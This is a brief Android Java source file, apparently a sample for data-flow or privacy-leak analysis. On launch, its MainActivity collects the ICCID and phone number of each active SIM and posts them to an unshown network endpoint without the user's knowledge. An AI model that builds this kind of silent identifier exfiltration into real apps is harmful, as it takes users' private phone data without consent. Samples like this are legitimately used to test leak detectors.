package com.example.flows.subscription;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** The card's numbers are posted from a list of subscriptions. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        StringBuilder text = new StringBuilder();
        for (SubscriptionInfo info : SubscriptionManager.from(this).getActiveSubscriptionInfoList()) {
            text.append(info.getIccId()).append(' ').append(info.getNumber());
        }
        Net.post(text.toString());
    }
}
